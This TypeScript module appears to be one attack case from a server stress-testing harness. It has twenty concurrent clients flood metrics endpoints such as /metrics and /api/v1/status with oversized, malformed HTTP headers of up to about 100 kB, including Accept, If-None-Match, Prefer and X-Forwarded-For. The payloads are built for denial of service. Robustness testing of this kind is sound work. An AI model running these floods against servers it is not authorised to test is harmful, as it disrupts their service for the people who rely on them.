import type { Attack } from '../../attack.ts';
import { swarm } from '../../client/swarm.ts';

const HEADERS: readonly Record<string, string>[] = [
  { accept: Array.from({ length: 6_000 }, (_, i) => `text/plain;q=0.${i}`).join(',') },
  { accept: `application/openmetrics-text${';a=b'.repeat(20_000)}` },
  { accept: `text/plain;v="${'\\"'.repeat(40_000)}` },
  { 'accept-encoding': Array.from({ length: 8_000 }, (_, i) => `gzip;q=0.${i}`).join(',') },
  { 'if-none-match': `"${'x'.repeat(50_000)}"${', "y"'.repeat(8_000)}` },
  { 'if-none-match': `W/${'"'.repeat(90_000)}` },
  { prefer: `wait=${'9'.repeat(50_000)}${', wait=1'.repeat(5_000)}` },
  { 'x-forwarded-for': '1.2.3.4, '.repeat(9_000) },
  { accept: 'application/vnd.google.protobuf;proto=io.prometheus.client.MetricFamily;encoding=compact-text' },
  { range: 'bytes=0-1', te: `trailers${', gzip'.repeat(10_000)}` },
];

const PATHS = ['/metrics', '/metrics?shard=3/1000000', '/', '/api/v1/status', '/api/v1/metrics', '/telemetry'];

export const scrapeNegotiation: Attack = {
  what: 'scrapes with Accept, Accept-Encoding, If-None-Match, Prefer and Range of up to 100 kB',
  against: 'plain',
  clients: 20,
  start: async (target, signal) =>
    swarm(target, signal, async (client) => {
      const headers = HEADERS[client.index % HEADERS.length] ?? {};
      for (const path of PATHS) await client.call({ method: 'GET', path, headers });
      await client.call({ method: 'PUT', path: '/metrics/job/negotiated', headers, body: 'negotiated 1\n' });
    }),
};
